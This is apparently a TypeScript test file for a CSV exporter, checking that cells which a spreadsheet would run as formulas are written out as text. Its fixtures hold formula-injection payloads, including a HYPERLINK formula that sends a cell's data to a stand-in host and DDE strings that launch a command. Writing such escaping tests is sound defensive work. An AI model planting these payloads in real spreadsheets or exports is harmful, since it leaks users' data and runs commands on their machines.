import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { safeCell, writeCsv, type CsvRow } from '../../src/cli/csv.js';

// CSV formula injection (issue 11 item 8): a name or a free-text answer that a spreadsheet
// would run as a formula goes out as text, in every export (they all write through writeCsv).

async function csvOf(rows: CsvRow[]): Promise<string[]> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  async function* pages() {
    yield rows;
  }
  await writeCsv([{ key: 'nama', header: 'nama' }, { key: 'no_hp', header: 'no_hp' }, { key: 'omzet', header: 'omzet' }], pages(), { delimiter: ',' }, out);
  return Buffer.concat(chunks).toString('utf8').replace(/^\uFEFF/u, '').split('\r\n');
}

describe('CSV exports escape what a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&D2,"Klik")', `'=HYPERLINK("http://evil.example/?d="&D2,"Klik")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('%j becomes text', (cell, escaped) => {
    expect(safeCell(cell)).toBe(escaped);
  });

  it('leaves ordinary cells, numbers and phone numbers alone', () => {
    expect(safeCell('Siti Aminah')).toBe('Siti Aminah');
    expect(safeCell('Toko = Murah')).toBe('Toko = Murah');
    expect(safeCell('+6281234567890')).toBe('+6281234567890');
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell(null)).toBeNull();
  });

  it('writes every dangerous cell of an export with a leading quote', async () => {
    const lines = await csvOf([
      { nama: '=HYPERLINK("http://evil.example/?d="&D2,"Klik")', no_hp: '+6281234567890', omzet: 7_500_000 },
      { nama: '@SUM(1+1)', no_hp: "+cmd|' /C calc'!A0", omzet: null },
      { nama: 'Siti', no_hp: null, omzet: 1 },
    ]);
    expect(lines[0]).toBe('nama,no_hp,omzet');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&D2,""Klik"")",+6281234567890,7500000`);
    expect(lines[2]).toBe(`'@SUM(1+1),'+cmd|' /C calc'!A0,`);
    expect(lines[3]).toBe('Siti,,1');
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=@]/u);
  });
});
